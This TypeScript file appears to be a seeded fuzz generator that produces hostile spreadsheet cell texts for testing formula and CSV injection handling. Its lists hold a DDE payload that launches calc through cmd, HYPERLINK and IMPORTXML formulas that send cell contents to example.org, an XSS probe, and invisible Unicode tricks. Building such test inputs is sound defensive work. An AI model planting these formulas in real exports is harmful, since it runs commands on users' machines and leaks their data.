/** Texts that try to become something else in a cell: the same seed gives the same texts. */
export function* hostileTexts(count: number, seed = 1): Generator<string> {
  const next = random(seed)
  const pick = <T>(from: readonly T[]): T => from[Math.floor(next() * from.length)] as T
  for (let made = 0; made < count; made++) {
    const kind = next()
    if (kind < 0.35) yield `${pick(hidden)}${pick(starts)}${pick(bodies)}`
    else if (kind < 0.55) yield pick(lookAlikes)
    else if (kind < 0.6) yield `${pick(hidden)}${pick(lookAlikes)}${pick(hidden)}`
    else if (kind < 0.95) yield anyCharacters(1 + Math.floor(next() ** 4 * 40), next, pick)
    else yield `${pick(starts)}${pick(bodies).repeat(1 + Math.floor(next() * 60))}`
  }
}

const starts = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '﹦',
  '−',
  '⁺',
  "'",
  "''",
  '"',
  '|',
  '%',
  '#',
  '{',
  '(',
  '$',
  '￥',
  '',
]
const hidden = [
  '',
  '',
  '',
  ' ',
  '\t',
  '\n',
  '\r\n',
  '\0',
  '\u00a0',
  '\u00ad',
  '\u180e',
  '\u200b',
  '\u200f',
  '\u202e',
  '\u2066',
  '\u3000',
  '\ufeff',
  '\ufe0f',
  '\u0301',
  "'",
  '\ud800',
  '\udfff',
  '\u{e0001}',
]
const bodies = [
  '1+1',
  'HYPERLINK("https://example.org/?"&A1,"open")',
  'IMPORTXML(CONCAT("https://example.org/?",A2),"//a")',
  "cmd|' /C calc'!A0",
  'A1',
  'SUM(A:A)',
  '客户!A1',
  '张三',
  'O\u2019Neil',
  '{1,2;3,4}',
  '13800138000',
  'none',
  '',
]
const lookAlikes = [
  ...[
    '1e5',
    '1E-3',
    '00123',
    '0x1F',
    '12 %',
    '12%',
    '$5',
    '￥5',
    '5 €',
    '(5)',
    '1,234.5',
    '1.234,5',
    '.5',
    '5.',
    '１２３',
    '٣',
    '½',
  ],
  ...['TRUE', 'true', 'FALSE', 'False', 'WAHR', 'VRAI'],
  ...[
    '2026-01-01',
    '1/2',
    '1/2/2026',
    '2026年1月1日',
    'Jan 5',
    '5 Jan 2026',
    '12:30',
    '1:2:3 PM',
    '2026-01-01T00:00:00Z',
  ],
  ...[
    '#N/A',
    '#REF!',
    '#NAME?',
    '#',
    "'",
    "''",
    "'=1",
    "'t Hart",
    "''t",
    '+86 138 0013 8000',
    '-5',
    '+5',
    '- none',
    '@handle',
    '-',
    '=',
  ],
  ...['<script>alert(1)</script>', '\u202e=1+1', 'a\nb', 'a\tb', 'null', 'undefined', 'NaN', 'Infinity'],
]

/** A few characters of every kind: controls, spaces, letters, half pairs, the far planes. */
function anyCharacters(length: number, next: () => number, pick: <T>(from: readonly T[]) => T): string {
  let text = ''
  for (let at = 0; at < length; at++) {
    const kind = next()
    if (kind < 0.3) text += String.fromCharCode(Math.floor(next() * 128))
    else if (kind < 0.4) text += pick(starts)
    else if (kind < 0.5) text += pick(hidden)
    else if (kind < 0.9) text += String.fromCharCode(Math.floor(next() * 65_536))
    else text += String.fromCodePoint(65_536 + Math.floor(next() * 1_048_576))
  }
  return text
}

/** Mulberry32. */
function random(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296
  }
}
